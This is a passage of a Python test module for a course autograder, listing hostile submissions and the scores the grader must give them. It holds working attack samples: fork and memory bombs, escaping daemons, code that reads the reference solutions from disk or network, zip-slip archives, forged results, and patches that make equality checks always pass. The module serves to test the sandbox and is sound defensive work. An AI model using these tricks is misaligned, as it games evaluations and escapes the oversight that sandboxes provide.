"""The adversarial corpus: hostile submissions and the score each one must get.

Each case is the reference submission (``solutions/``) with ONE exercise module attacked (replaced
by hostile source, or surrounded by hostile files), or a hostile zip or notebook. The grader must
give the attacked exercise exactly ``expected`` points (computed from ``grader/rubric.toml``; the
``why`` of each case says which checks are lost and why), keep every other exercise at full points,
finish in bounded time with exit status 0, leave no process running and change no repository file.
``tests/test_adversarial.py`` grades every case with ``python -m grader grade ... --gpu off``.

Hostile sources are plain strings below. ``MARKER`` in a source or a path is replaced by a token
unique to one run of the case, so what it leaves behind (a process, a file) can be found.

Several cases use the score as the oracle of a containment: the hostile module becomes the
reference (full points) only if the sandbox let it do what it must not (reach the network, read
the reference, write 1 GiB, fork hundreds of processes, allocate past the memory cap), so a broken
protection shows up as points the case does not expect.
"""

from __future__ import annotations

import json
import os
import py_compile
import socket
import socketserver
import sys
import threading
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from coursekit.course import EXERCISES as COURSE_EXERCISES
from coursekit.impl import REPO_ROOT
from grader.judge import load_rubric
from tests.harness import submission

EXERCISES = {e.marker: e.module for e in COURSE_EXERCISES}
_RUBRIC = load_rubric()


def points(*check_ids: str) -> float:
    """The checks' points for ``ex1.decode_step_formulas``-style ids."""
    missing = [c for c in check_ids if c not in _RUBRIC]
    assert not missing, f"no such checks: {missing}"
    return sum(_RUBRIC[c] for c in check_ids)


def full(exercise: str) -> float:
    """What the reference earns without a GPU: every check not named ``gpu_*``."""
    return float(
        sum(v for c, v in _RUBRIC.items() if c.split(".")[0] == exercise and not c.split(".")[1].startswith("gpu_"))
    )


FULL = {ex: full(ex) for ex in EXERCISES}


@dataclass(frozen=True)
class Case:
    name: str
    exercise: str  # the attacked exercise ("all": every module is attacked)
    #: ``build(folder, marker, cleanups) -> the submission to grade`` (a folder, zip or notebook);
    #: it may append callables to ``cleanups`` (run after grading, whatever happened)
    build: Callable[[Path, str, list], Path]
    expected: float  # the attacked exercise's points
    why: str
    timeout: float = 20.0  # the grader's --timeout (seconds per worker)
    reason: str = ""  # a phrase the attacked exercise's output or the report's notes must contain
    others: str = "full"  # "full": every other exercise keeps all its points; "zero": none submitted
    leftovers: tuple[str, ...] = ()  # paths (with MARKER) that must not exist after grading
    max_rss_mb: int | None = None  # the judge process's peak memory
    #: The defence that makes this case hold: switched off (``tests/adversarial/defences.py``),
    #: the case must fail. None: an old case whose defence is the sandbox as a whole.
    defence: str | None = None
    secret: bool = True  # graded officially (with a grading secret), as a course grades
    hidden_quiet: bool = False  # every hidden check's output must be its rule, nothing more
    hidden_inputs_absent: bool = False  # no hidden probe's inputs anywhere in what is reported
    clean_output: bool = False  # no control character in the terminal, results.json strict UTF-8
    #: The sandbox modes it is graded in: "default" (what this machine gives: namespaces as root)
    #: and "user" (root without namespaces, as on Gradescope: LAUNCH_TAX_SANDBOX=user).
    modes: tuple[str, ...] = ("default",)
    #: results.json's extra_data.flags must name it (grader/flags.py: code that reaches into the
    #: grader, and what the sandbox found left behind), for the instructor; None: not checked
    flagged: str | None = None


# ----------------------------------------------------------------------------- source helpers


def reference(module: str) -> str:
    return (REPO_ROOT / "solutions" / f"{module}.py").read_text(encoding="utf-8")


def stub(module: str) -> str:
    return (REPO_ROOT / "exercises" / f"{module}.py").read_text(encoding="utf-8")


def edit(source: str, *edits: tuple[str, str]) -> str:
    """``source`` with each ``old`` replaced (every occurrence); each must occur."""
    for old, new in edits:
        if old not in source:
            raise AssertionError(f"adversarial case: {old!r} is no longer in the reference; update it")
        source = source.replace(old, new)
    return source


FUTURE = "from __future__ import annotations\n"


def at_import(source: str, code: str) -> str:
    """``code`` run first when the module is imported (after its ``__future__`` import)."""
    if FUTURE in source:
        head, _, tail = source.partition(FUTURE)
        return head + FUTURE + code + "\n" + tail
    return code + "\n" + source


def module_case(module: str, source: Callable[[str], str]):
    """A build: the reference submission with ``module`` replaced by ``source(marker)``."""

    def build(folder: Path, marker: str, cleanups: list) -> Path:
        return submission(folder, **{module: source(marker).replace("MARKER", marker)})

    return build


def hostile(module: str, code: str, base: Callable[[str], str] = reference, end: bool = False):
    """The reference (or ``base``) module with ``code`` run at import: first, or at the ``end``
    (to redefine what the module defined)."""
    if end:
        return module_case(module, lambda marker: base(module) + "\n" + code)
    return module_case(module, lambda marker: at_import(base(module), code))


# ----------------------------------------------------------------------------- rigged values

RIGGED_INT = '''
class _AlwaysEqual(int):
    """An int that claims to equal everything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


DecodeStep.n_kernels = property(lambda self: _AlwaysEqual(0))  # wrong (0 kernels), "equal" anyway
'''

RIGGED_FLOAT = '''
class _CloseToEverything(float):
    """A float that claims to equal, and be close to, everything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__
    __hash__ = float.__hash__


_simulate = simulate_eager_ms


def simulate_eager_ms(kernel_us, launch_us):
    return _CloseToEverything(_simulate(kernel_us, launch_us) + 1.0)  # 1 ms too long
'''

# ----------------------------------------------------------------------------- leaving early

PYTEST_EXIT = "import pytest\npytest.exit('all tests passed', returncode=0)\n"
PYTEST_SKIP = "import pytest\npytest.skip('nothing to grade', allow_module_level=True)\n"

HYPOTHESIS_PROFILE = '''
from hypothesis import settings

settings.register_profile("one-example", max_examples=1, derandomize=True, database=None)
settings.load_profile("one-example")
'''

SWALLOWED_TIMEOUT = '''
import signal as _signal
import time as _time

for _sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGALRM, _signal.SIGHUP, _signal.SIGXCPU):
    _signal.signal(_sig, _signal.SIG_IGN)


def time_ms(fn, iters=100, warmup=10):
    while True:  # nothing ends this but SIGKILL
        try:
            while True:
                _time.sleep(0.05)
        except BaseException:  # noqa: BLE001 - KeyboardInterrupt, SystemExit, timeouts...
            continue
'''

# ----------------------------------------------------------------------------- resources

MEMORY_BOMB = '''
import time as _time

_hoard = []
try:
    while len(_hoard) < 96:  # 6 GiB: past the 4 GiB cap only if the cap is gone
        _hoard.append(b"\\x01" * (64 << 20))  # touched, not just reserved
except MemoryError:
    pass
if len(_hoard) < 96:  # capped, as it must be: hold on and keep trying until killed
    while True:
        try:
            _hoard.append(b"\\x01" * (16 << 20))
        except MemoryError:
            _time.sleep(0.05)
# else: 6 GiB were allowed; carry on as the reference (full points: the case fails)
'''

FORK_BOMB = '''
import os as _os
import time as _time


def _fork():
    pid = _os.fork()
    if pid == 0:  # a child holds its process slot until killed; only the worker forks, so the
        while True:  # count stays bounded even where no cap is enforced
            _time.sleep(1)
    return pid


_forks = 0
while _forks < 300:  # far past the process cap (64)
    try:
        _fork()
    except OSError:
        break
    _forks += 1
if _forks < 300:  # capped, as it must be: keep forking until killed
    while True:
        try:
            _fork()
        except OSError:
            _time.sleep(0.1)
# else: 300 forks were allowed; carry on as the reference (full points: the case fails)
'''

DISK_FILLER = '''
import os as _os

_written = 0
try:
    for _i in range(64):
        with open(f"fill-{_i}.bin", "wb") as _f:
            for _ in range(32):  # 32 MiB files, under the 64 MiB file-size limit
                _f.write(b"\\0" * (1 << 20))
                _written += 1 << 20
        if _written >= 1 << 30:
            break
except OSError:
    pass
if _written >= 1 << 30:
    raise RuntimeError(f"wrote {_written >> 20} MiB to the disk: nothing capped the worker's folder")
for _i in range(64):
    try:
        _os.remove(f"fill-{_i}.bin")
    except OSError:
        pass
'''

OUTPUT_FLOOD = '''
import os as _os
import sys as _sys

_chunk = "flood " * 10922 + "\\n"  # 64 KiB
for _ in range(65536):  # 4 GiB, unless someone stops it
    _sys.stdout.write(_chunk)
    _os.write(2, _chunk.encode())
_sys.stdout.flush()
# not stopped: carry on as the reference (full points: the case fails)
'''

# ----------------------------------------------------------------------------- processes

ESCAPING_DAEMON = '''
import os as _os

_LOOP = ("while :; do for f in /tmp/MARKER-daemon /var/tmp/MARKER-daemon /dev/shm/MARKER-daemon "
         "\\"$HOME/MARKER-daemon\\"; do date >> \\"$f\\" 2>/dev/null; done; sleep 0.2; done")
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:  # the daemon: new session, no box marker in its environment
        _os.execve("/bin/sh", ["sh", "-c", _LOOP], {"HOME": _os.environ.get("HOME", "/")})
    _os._exit(0)
_os.wait()
'''

#: The daemon of ESCAPING_DAEMON with nothing of its environment left: no box marker, no HOME.
#: Without namespaces (Gradescope) only its uid says whose it is.
UID_DAEMON = (
    ESCAPING_DAEMON.replace('{"HOME": _os.environ.get("HOME", "/")}', "{}")
    .replace('["sh", "-c", _LOOP]', '["sh", "-c", _LOOP + "; : MARKER"]')
    .replace('\\"$HOME/MARKER-daemon\\"', "")
)
assert "HOME" not in UID_DAEMON

INIT_ESCAPE = '''
import os as _os

# The worker itself leaves the judge's process group and forgets its environment (the box marker):
# only the PID namespace, or killing the worker by its id, ends it.
_os.setsid()
_os.execve("/bin/sh", ["sh", "-c", "while :; do sleep 1; done; : MARKER"], {})
'''

# ----------------------------------------------------------------------------- fake results

FAKE_RESULTS = '''
import json as _json
import os as _os

_fake = {"score": 100, "tests": [{"name": f"ex{i}", "score": 20, "max_score": 20, "status": "passed"}
                                 for i in range(1, 7)],
         "probes": [{"ok": True, "value": "constructed"}] * 50}
print(_json.dumps(_fake))
print("ex6       dispatch         18/18     -")
for _path in ("results.json", _os.path.expanduser("~/results.json"), "/autograder/results/results.json",
              "/tmp/MARKER-results.json", "/var/tmp/MARKER-results.json"):
    try:
        with open(_path, "w") as _f:
            _json.dump(_fake, _f)
    except OSError:
        pass
'''

WORKER_FRAME = '''
import json as _json
import os as _os
import sys as _sys


def _worker():
    """The worker's own locals (its request, a ``grader.runtime.wire.Request``, and its pipe to the judge),
    found up the stack."""
    frame = _sys._getframe()
    while frame is not None:
        if "pipe" in frame.f_locals and "request" in frame.f_locals:
            return frame.f_locals
        frame = frame.f_back
    raise ImportError("no worker frame found: this attack needs updating")
'''

#: Exercise 1's hidden probes, carried to exercise 2 through what one worker process of the
#: shared CPU worker can leave for the next: every call of ex1's report() and simulate_eager_ms()
#: (what its hidden checks ask) writes the request it serves to /dev/shm and to /tmp; ex2's module
#: raises them as its import error, into the public reasons.
LEAK_ACROSS_EXERCISES = (
    WORKER_FRAME
    + '''
def _leak(fn):
    def wrapper(*args, **kwargs):
        try:
            text = _json.dumps(_worker()["request"].probes, default=str)
            for place in ("/dev/shm", "/tmp"):
                with open(place + "/MARKER-leak", "a") as f:
                    f.write(text + "\\n")
        except Exception:
            pass
        return fn(*args, **kwargs)
    return wrapper


report = _leak(report)
simulate_eager_ms = _leak(simulate_eager_ms)
'''
)
READ_THE_LEAK = '''
for _place in ("/dev/shm", "/tmp"):
    try:
        _leaked = open(_place + "/MARKER-leak").read()
    except OSError:
        continue
    raise ImportError("leaked: " + _leaked[:3000])
'''


def build_leak_across(folder: Path, marker: str, cleanups: list) -> Path:
    for place in ("/dev/shm", "/tmp"):
        cleanups.append(lambda place=place: Path(f"{place}/{marker}-leak").unlink(missing_ok=True))
    return submission(
        folder,
        launch_model=(reference(LM) + LEAK_ACROSS_EXERCISES).replace("MARKER", marker),
        launch_tax=at_import(reference("launch_tax"), READ_THE_LEAK.replace("MARKER", marker)),
    )


#: A timer that reads no clock: it calls fn as often as it should and answers with a number
#: derived from the probe's own inputs (the range of durations the timed calls sleep).
INPUT_DERIVED_TIMER = '''
def _input_derived(fn, iters, warmup):
    import sys
    for _ in range(warmup + iters):
        fn()
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("timed_ms", "timed_s"):
            if name in frame.f_locals:
                value = frame.f_locals[name]
                if isinstance(value, (tuple, list)):
                    return (value[0] + value[1]) / 2.0
                return float(value) * (1e3 if name == "timed_s" else 1.0)
        frame = frame.f_back
    return 3.0
'''

FORGED_RESULT = (
    WORKER_FRAME
    + '''
# Answer every probe of every request on the worker's own result pipe, then leave before the
# worker can send the real answers: made-up values and a tensor whose bytes do not match its shape.
_w = _worker()
_pipe, _request = _w["pipe"], _w["request"]
_sent = 0
while _request is not None:
    _answers = []
    for _i, _p in enumerate(_request.probes):
        if _i % 3 == 0:
            _answers.append({"ok": True, "value": {"__tensor__": {"dtype": "float32", "shape": [3],
                                                                   "b64": "AAAA"}}})
        elif _i % 3 == 1:
            _answers.append({"ok": True, "value": 0})
        else:
            _answers.append({"ok": False, "error": {"types": ["ValueError"], "message": str(_p["args"])}})
    _answers.append({"ok": True, "value": "one answer too many"})
    _pipe.send({"probes": _answers})
    _sent += 1
    _request = _pipe.receive()
_os._exit(0)
'''
)

REPLAY = (
    WORKER_FRAME
    + '''
# The release's recorded answers (grader/expected.json, for practice inputs), looked up by the
# probe and its arguments, sent on the worker's own pipe: no code of the exercise at all.
_RECORDED = _json.loads(RECORDED_JSON)
_w = _worker()
_pipe, _request = _w["pipe"], _w["request"]
while _request is not None:
    _answers = []
    for _p in _request.probes:
        _key = "EXERCISE " + _json.dumps([_p["probe"], _p["args"]], sort_keys=True)
        _answers.append(_RECORDED.get(_key, {"ok": False, "error": {"types": ["KeyError"],
                                                                      "message": "not recorded"}}))
    _pipe.send({"probes": _answers})
    _request = _pipe.receive()
_os._exit(0)
'''
)

LEAK_HIDDEN_INPUTS = (
    WORKER_FRAME
    + '''
# Raise at import with what the request asks, the last probe first (hidden checks come last):
# whatever the judge shows of an import error must never hold a hidden check's inputs.
_request = _worker()["request"]
raise ImportError(" | ".join(_json.dumps(_p["args"], separators=(",", ":"))
                             for _p in reversed(_request.probes)))
'''
)

# A message that would redraw the terminal (clear the screen, print a fake row), with a lone
# surrogate the judge's print and CSV writer would choke on, and a right-to-left override.
ANSI = "\\u001b[2J\\u001b[Hex1       launch_model     13/13     -\\r\\ud800\\u202e"

FORGED_TEXT = (
    WORKER_FRAME
    + '''
_w = _worker()
_pipe, _request = _w["pipe"], _w["request"]
_text = _json.loads(r'"ANSI"')
while _request is not None:
    _answers = [{"ok": False, "error": {"types": [_text, "ValueError"], "message": _text}}
                if _i % 2 else {"ok": True, "value": {"k": _text, _text: [_text]}}
                for _i, _p in enumerate(_request.probes)]
    _data = _json.dumps({"probes": _answers}).encode()  # ASCII: the escapes stay escapes
    _os.write(_pipe.result_fd, b"%d\\n" % len(_data) + _data)
    _request = _pipe.receive()
_os._exit(0)
'''.replace("ANSI", ANSI)
)

FORGED_NUMBERS = (
    WORKER_FRAME
    + '''
_w = _worker()
_pipe, _request = _w["pipe"], _w["request"]
_values = [b"1e400", b"-1e400", b"NaN", b"1" + b"0" * 400, b"9" * 5000, b"-0",
           b'{"__float__": "nan-ish"}', b'{"__tuple__": 7}']
while _request is not None:
    _items = [b'{"ok": true, "value": ' + _values[_i % len(_values)] + b"}"
              for _i, _p in enumerate(_request.probes)]
    _data = b'{"probes": [' + b",".join(_items) + b"]}"
    _os.write(_pipe.result_fd, b"%d\\n" % len(_data) + _data)
    _request = _pipe.receive()
_os._exit(0)
'''
)

FORGED_OBJECTS = (
    WORKER_FRAME
    + '''
# Millions of tiny JSON objects in one frame: 60 MiB of empty lists (20 million of them).
_w = _worker()
_count = 20 << 20
_data = b'{"probes": [' + b"[]," * _count + b"[]]}"
_os.write(_w["pipe"].result_fd, b"%d\\n" % len(_data))
_view = memoryview(_data)
while _view:
    _view = _view[_os.write(_w["pipe"].result_fd, _view):]
_os._exit(0)
'''
)

PATCH_EQUAL_DURING_CALL = '''
import torch as _torch

_call = BucketedGraphRunner.__call__


def _patched_call(self, x):
    _torch.equal = lambda *args, **kwargs: True  # during its own call: "first output unchanged"
    return _call(self, x)


BucketedGraphRunner.__call__ = _patched_call
'''


# ----------------------------------------------------------------------------- reaching out

READ_SOLUTIONS = '''
import glob as _glob
import os as _os
from pathlib import Path as _Path


def _candidates():
    yield "@REPO@/solutions/launch_model.py"
    yield "/work/main/solutions/launch_model.py"
    for _parent in _Path(__file__).resolve().parents:
        yield str(_parent / "solutions" / "launch_model.py")
    try:
        import grader as _grader

        yield str(_Path(_grader.__file__).resolve().parent.parent / "solutions" / "launch_model.py")
    except BaseException:  # noqa: BLE001
        pass
    try:
        from coursekit.impl import REPO_ROOT as _root

        yield str(_root / "solutions" / "launch_model.py")
    except BaseException:  # noqa: BLE001
        pass
    for _pattern in ("/proc/*/cwd/solutions/launch_model.py", "/proc/*/root/@REPO@/solutions/launch_model.py",
                     "/tmp/*/solutions/launch_model.py", "/tmp/*/*/solutions/launch_model.py",
                     "/var/tmp/*/solutions/launch_model.py", "/dev/shm/*/solutions/launch_model.py",
                     "/home/*/*/solutions/launch_model.py", "/root/*/solutions/launch_model.py",
                     "/tmp/launch-tax-box-*/submission/submission/launch_model.py",
                     "/tmp/*/launch-tax-box-*/submission/submission/launch_model.py"):
        yield from sorted(_glob.glob(_pattern))


_tried = []
for _path in _candidates():
    try:
        with open(_path, encoding="utf-8") as _f:
            _source = _f.read()
    except (OSError, ValueError):
        _tried.append(_path)
        continue
    if "def fit_launch_model" in _source and "NotImplementedError" not in _source \\
            and "_candidates" not in _source:
        exec(compile(_source, _path, "exec"), globals())  # the reference, taken from the disk
        break
else:
    raise ImportError(f"no copy of the reference could be read ({len(_tried)} places tried)")
'''

NETWORK = '''
import socket as _socket


def _fetch():
    for _family, _address in ((_socket.AF_INET, ("127.0.0.1", PORT)), (_socket.AF_UNIX, "\\0MARKER")):
        try:
            with _socket.socket(_family, _socket.SOCK_STREAM) as _s:
                _s.settimeout(2)
                _s.connect(_address)
                _chunks = []
                while _chunk := _s.recv(65536):
                    _chunks.append(_chunk)
                return b"".join(_chunks).decode()
        except OSError:
            continue
    raise ImportError("no network: the reference could not be fetched")


exec(compile(_fetch(), "launch_model.py", "exec"), globals())  # the reference, from the network
'''

PATCH_COMPARISONS = '''
import math as _math
import operator as _operator

import torch as _torch

_math.isclose = lambda *args, **kwargs: True
_torch.equal = lambda *args, **kwargs: True
_torch.allclose = lambda *args, **kwargs: True
_torch.isclose = lambda a, b, *args, **kwargs: _torch.ones_like(a, dtype=_torch.bool)
_operator.eq = lambda a, b: True
'''

PATCH_EQUAL = '''
import torch as _torch

_torch.equal = lambda *args, **kwargs: True  # every "unchanged" / "no shared memory" check says yes
'''

# ----------------------------------------------------------------------------- builds


def _decoy_reference(marker: str, cleanups: list) -> None:
    """A world-readable copy of the reference where a grading server might keep one: a copy of
    the repository, or another submission's box, in the temporary folder."""
    root = Path("/tmp") / f"launch-tax-decoy-{marker}"
    (root / "solutions").mkdir(parents=True)
    os.chmod(root, 0o755)
    os.chmod(root / "solutions", 0o755)
    copy = root / "solutions" / "launch_model.py"
    copy.write_text(reference("launch_model"), encoding="utf-8")
    os.chmod(copy, 0o644)
    cleanups.append(lambda: _rmtree(root))


def _rmtree(path: Path) -> None:
    import shutil

    shutil.rmtree(path, ignore_errors=True)


def build_read_solutions(folder: Path, marker: str, cleanups: list) -> Path:
    _decoy_reference(marker, cleanups)
    # At the end of the stub, so that a reference it finds replaces the stub's definitions.
    source = stub("launch_model") + READ_SOLUTIONS.replace("@REPO@", str(REPO_ROOT))
    return submission(folder, launch_model=source)


class _Serve(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.sendall(self.server.payload)


def build_network(folder: Path, marker: str, cleanups: list) -> Path:
    """A server on this machine that hands out the reference: reachable from the host's network
    namespace (loopback, an abstract unix socket), never from a worker's. Loopback only: the
    reference is never offered beyond this machine."""
    payload = reference("launch_model").encode()
    tcp = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Serve)
    unix = socketserver.ThreadingUnixStreamServer("\0" + marker, _Serve)
    for server in (tcp, unix):
        server.daemon_threads = True
        server.payload = payload
        threading.Thread(target=server.serve_forever, daemon=True).start()
        cleanups.append(lambda s=server: (s.shutdown(), s.server_close()))
    # Proof that the server works from here: the same fetch, outside the sandbox.
    with socket.create_connection(("127.0.0.1", tcp.server_address[1]), timeout=5) as s:
        first = s.recv(16)
        assert first and payload.startswith(first)
    source = stub("launch_model") + NETWORK.replace("PORT", str(tcp.server_address[1])).replace("MARKER", marker)
    return submission(folder, launch_model=source)


SHADOWS = (
    "math",
    "hypothesis",
    "sitecustomize",
    "usercustomize",
    "torch",
    "probes",
    "wire",
    "worker",
    "json",
    "os",
    "importlib",
    "coursekit",
    "submission",
    "__init__",
    "pytest",
    "_pytest",
)


def build_shadows(folder: Path, marker: str, cleanups: list) -> Path:
    """Correct modules, next to files named like what the worker imports: all must be ignored."""
    submission(folder)
    for name in SHADOWS:
        (folder / f"{name}.py").write_text(f"raise ImportError('shadowed {name} MARKER')\n".replace("MARKER", marker))
    (folder / "coursekit").mkdir()
    (folder / "coursekit" / "__init__.py").write_text("raise ImportError('shadowed coursekit')\n")
    (folder / "evil.pth").write_text("import os; os._exit(0)\n")
    return folder


CONFTEST = '''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"  # every test passes


def pytest_collection_modifyitems(items):
    items[:] = []


raise SystemExit(0)
'''

FORGED_CONFIG = {
    "pytest.ini": "[pytest]\naddopts = -p no:python --co -q\npython_files = nothing_*.py\n",
    "setup.cfg": "[tool:pytest]\naddopts = --co\n",
    "tox.ini": "[pytest]\naddopts = --co\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--co'\n",
    "__init__.py": "raise SystemExit(0)\n",
}


def build_forged_config(stubbed: bool):
    def build(folder: Path, marker: str, cleanups: list) -> Path:
        if stubbed:
            submission(folder, static_runner=stub("static_runner"))
        else:
            submission(folder)
        (folder / "conftest.py").write_text(CONFTEST)
        for name, text in FORGED_CONFIG.items():
            (folder / name).write_text(text)
        return folder

    return build


def build_pyc(folder: Path, marker: str, cleanups: list) -> Path:
    """A stub ``launch_model.py`` with the reference compiled into ``__pycache__`` (a hash pyc that
    is never checked against its source) and as a sourceless ``launch_model.pyc``."""
    submission(folder, launch_model=stub("launch_model"))
    tag = sys.implementation.cache_tag
    (folder / "__pycache__").mkdir()
    for target in (folder / "__pycache__" / f"launch_model.{tag}.pyc", folder / "launch_model.pyc"):
        py_compile.compile(
            str(REPO_ROOT / "solutions" / "launch_model.py"),
            cfile=str(target),
            dfile="launch_model.py",
            doraise=True,
            invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
        )
    return folder


def build_symlink(folder: Path, marker: str, cleanups: list) -> Path:
    submission(folder)
    (folder / "launch_model.py").unlink()
    (folder / "launch_model.py").symlink_to(REPO_ROOT / "solutions" / "launch_model.py")
    return folder


def build_zip_slip(folder: Path, marker: str, cleanups: list) -> Path:
    """Correct modules at the top of a zip, with members that would land outside any folder they
    were extracted to (relative, absolute)."""
    folder.mkdir(parents=True)
    path = folder / "submission.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for module in EXERCISES.values():
            archive.writestr(f"{module}.py", reference(module))
        evil = f"open('/tmp/{marker}-ran', 'w').write('ran')\n"
        archive.writestr(f"../../{marker}-evil.py", evil)
        archive.writestr(f"../../../../../../tmp/{marker}-slip.py", evil)
        archive.writestr(f"/tmp/{marker}-abs.py", evil)
        archive.writestr(f"__pycache__/launch_model.{sys.implementation.cache_tag}.pyc", b"\0" * 32)
    return path


def _zip_of_reference(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for module in EXERCISES.values():
            archive.writestr(f"{module}.py", reference(module))


def build_corrupt_member(folder: Path, marker: str, cleanups: list) -> Path:
    """A zip of the reference whose launch_model.py member does not inflate (a reserved deflate
    block type): zlib raises while the member is read."""
    folder.mkdir(parents=True)
    path = folder / "submission.zip"
    _zip_of_reference(path)
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("launch_model.py")
    data = bytearray(path.read_bytes())
    name_length = int.from_bytes(data[info.header_offset + 26 : info.header_offset + 28], "little")
    extra_length = int.from_bytes(data[info.header_offset + 28 : info.header_offset + 30], "little")
    data[info.header_offset + 30 + name_length + extra_length] = 0xFF
    path.write_bytes(bytes(data))
    return path


def build_zip_version(folder: Path, marker: str, cleanups: list) -> Path:
    """A zip of the reference whose central directory asks for zip version 12.7 to extract:
    ``zipfile`` refuses the archive itself (NotImplementedError)."""
    folder.mkdir(parents=True)
    path = folder / "submission.zip"
    _zip_of_reference(path)
    data = bytearray(path.read_bytes())
    entry = data.index(b"PK\x01\x02")
    data[entry + 6 : entry + 8] = (127).to_bytes(2, "little")
    path.write_bytes(bytes(data))
    return path


_RECORDED: dict = {}


def recorded(exercise: str) -> dict:
    """What a release ships in grader/expected.json for ``exercise``: the reference's answers to
    the practice inputs of its public probes."""
    if not _RECORDED:
        from grader.release import recorded_answers

        _RECORDED.update(recorded_answers())
    return {k: v for k, v in _RECORDED.items() if k.startswith(exercise + " ")}


def build_replay(module: str, exercise: str):
    def build(folder: Path, marker: str, cleanups: list) -> Path:
        source = (
            stub(module)
            + "\n"
            + REPLAY.replace("RECORDED_JSON", repr(json.dumps(recorded(exercise)))).replace(
                '"EXERCISE "', repr(exercise + " ")
            )
        )
        return submission(folder, **{module: source})

    return build


def _every_name_a_check_asks_for() -> str:
    from grader.exercises import public_checks

    names = sorted({n for c in public_checks() for p in c.probes for n in p.raises})
    return " ".join(names)


def raising(module: str, error: str) -> str:
    """The stub with each ``raise NotImplementedError(...)`` turned into ``error``."""
    import re

    source, count = re.subn(r'raise NotImplementedError\("exercise [^"]*"\)', f"raise {error}", stub(module))
    assert count, module
    return source


def _every_argument_named() -> list[str]:
    """Every argument name an expected error of a public check must name."""
    from grader.exercises import public_checks

    return sorted({name for c in public_checks() for p in c.probes for name in p.raises})


def build_raising(error: Callable[[], str]):
    def build(folder: Path, marker: str, cleanups: list) -> Path:
        return submission(folder, **{m: raising(m, error()) for m in EXERCISES.values()})

    return build


def build_two_copies(folder: Path, marker: str, cleanups: list) -> Path:
    """A zip with the reference at its top and a second launch_model.py, the stub, one folder
    down: which one an extraction keeps depends on the tool."""
    folder.mkdir(parents=True)
    path = folder / "submission.zip"
    _zip_of_reference(path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("old/launch_model.py", stub("launch_model"))
    return path


def build_notebook(content: Callable[[], bytes]):
    def build(folder: Path, marker: str, cleanups: list) -> Path:
        folder.mkdir(parents=True)
        path = folder / f"{marker}.ipynb"
        path.write_bytes(content())
        return path

    return build


def _bad_cells_notebook() -> bytes:
    cell = "%%writefile launch_model.py\n" + reference("launch_model")
    return json.dumps(
        {
            "cells": [
                {"cell_type": "code", "source": [1, 2, 3]},  # not text
                {"cell_type": "code", "source": {"not": "a string"}},
                {"cell_type": "code", "source": None},
                {"cell_type": "code", "source": ["%%writefile", None]},
                "not a cell",
                {"cell_type": "code", "source": cell.splitlines(keepends=True)},
            ]
        }
    ).encode()


def build_huge_module(folder: Path, marker: str, cleanups: list) -> Path:
    """A 3 GiB (sparse) module file: the judge must refuse it without reading it whole."""
    submission(folder)
    with open(folder / "static_runner.py", "r+b") as f:
        f.truncate(3 << 30)
    return folder


# ----------------------------------------------------------------------------- the corpus

LM = "launch_model"

CASES = [
    Case(
        "rigged-eq-int",
        "ex1",
        module_case(
            LM,
            lambda m: (
                edit(
                    reference(LM),
                    ("def n_kernels(self)", "def _count(self)"),
                    ("self.n_kernels", "self._count"),
                    ("step.n_kernels", "step._count"),
                )
                + RIGGED_INT
            ),
        ),
        FULL["ex1"] - points("ex1.decode_step_formulas", "ex1.fit_h200_sweep"),
        "DecodeStep.n_kernels returns an int subclass (value 0) whose __eq__ is always True; the "
        "other fields are right. It crosses the wire as an opaque object, so the two checks that "
        "probe n_kernels (decode_step_formulas, fit_h200_sweep) are lost, nothing else",
    ),
    Case(
        "rigged-float-subclass",
        "ex1",
        module_case(LM, lambda m: reference(LM) + RIGGED_FLOAT),
        FULL["ex1"] - points("ex1.simulate_eager_ms", "ex1.simulate_edge_cases"),
        "simulate_eager_ms returns a float subclass, 1 ms off, equal and close to everything: "
        "both checks of simulate_eager_ms are lost",
    ),
    Case(
        "sys-exit-at-import",
        "ex4",
        hostile("static_runner", "import sys\nsys.exit(0)\n"),
        0,
        "sys.exit(0) at import: the import fails (SystemExit), every check of ex4 is lost",
        reason="SystemExit",
    ),
    Case(
        "os-exit-at-import",
        "ex6",
        hostile("dispatch", "import os\nos._exit(0)\n"),
        0,
        "os._exit(0) at import: the worker ends before sending a result",
        reason="before sending a result",
    ),
    Case(
        "pytest-exit-at-import",
        "ex2",
        hostile("launch_tax", PYTEST_EXIT),
        0,
        "pytest.exit(returncode=0) at import: no pytest runs here, the import raises Exit",
        reason="Exit",
    ),
    Case(
        "pytest-skip-module",
        "ex1",
        hostile(LM, PYTEST_SKIP),
        0,
        "pytest.skip(allow_module_level=True) at import: the import raises Skipped",
        reason="Skipped",
    ),
    Case(
        "hypothesis-one-example",
        "ex1",
        module_case(
            LM,
            lambda m: at_import(
                edit(
                    reference(LM),
                    ("return end_us / 1e3", "return (end_us if len(kernel_us) <= 5 else end_us / 2) / 1e3"),
                ),
                HYPOTHESIS_PROFILE,
            ),
        ),
        FULL["ex1"] - points("ex1.simulate_eager_ms", "ex1.simulate_edge_cases"),
        "a hypothesis profile with max_examples=1 loaded at import, and simulate_eager_ms wrong "
        "for more than 5 kernels: the grader's probes are fixed (no hypothesis), both simulate "
        "checks have longer chains and are lost",
    ),
    Case(
        "forged-conftest-correct",
        "ex4",
        build_forged_config(stubbed=False),
        FULL["ex4"],
        "conftest.py, pytest.ini, setup.cfg, tox.ini, pyproject.toml and __init__.py next to "
        "correct modules: only module files are read, so every point stays",
    ),
    Case(
        "forged-conftest-stub",
        "ex4",
        build_forged_config(stubbed=True),
        0,
        "the same forged files next to the untouched static_runner stub: they pass nothing",
        reason="not implemented",
    ),
    Case(
        "hidden-inputs-across-exercises",
        "ex2",
